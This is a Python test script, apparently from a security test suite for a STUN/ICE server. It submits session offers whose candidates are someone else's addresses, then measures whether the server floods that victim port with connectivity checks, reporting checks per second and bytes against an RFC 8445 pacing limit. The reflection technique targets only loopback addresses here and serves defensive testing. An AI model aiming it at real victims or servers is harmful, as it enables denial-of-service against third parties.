"""Offers whose candidates are the addresses of somebody else, who has to bear the server's checks."""

import socket
import threading
import time

import stun

SESSIONS = 60
# An offer with more than these is refused for its length in memory.
CANDIDATES = 30


def attack(server):
    target = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    target.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    target.bind(("0.0.0.0", 0))
    target.settimeout(0.1)
    port = target.getsockname()[1]
    times, received = [], [0]
    ended = threading.Event()

    def bear():
        while not ended.is_set():
            try:
                received[0] += len(target.recv(2048))
                times.append(time.monotonic())
            except TimeoutError:
                pass

    bearing = threading.Thread(target=bear)
    bearing.start()
    end = time.monotonic() + server.seconds
    offered, taken = 0, 0
    for session in range(SESSIONS):
        if time.monotonic() >= end:
            break
        addresses = (f"127.{64 + session}.1.{1 + number}" for number in range(CANDIDATES))
        candidates = [stun.candidate(address, port, number) for number, address in enumerate(addresses)]
        made = stun.Session(server, candidates)
        offered += made.offered
        taken += made.status == 201
    time.sleep(max(0.0, end - time.monotonic()))
    ended.set()
    bearing.join()
    target.close()
    most = max((sum(1 for time in times if first <= time < first + 1) for first in times[::20]), default=0)
    harm = [] if taken else ["no offer was taken, so this shows nothing"]
    # RFC 8445 §14.2: a check each 5 ms, and some that a busy machine has held back.
    if most > 300:
        harm.append(f"{most} checks within a second")
    if received[0] > 3 * offered:
        harm.append(f"{received[0]} bytes for {offered} that were offered")
    return {"sessions": taken, "offered": offered, "checks": len(times), "bytes": received[0], "a second": most, "harm": harm}
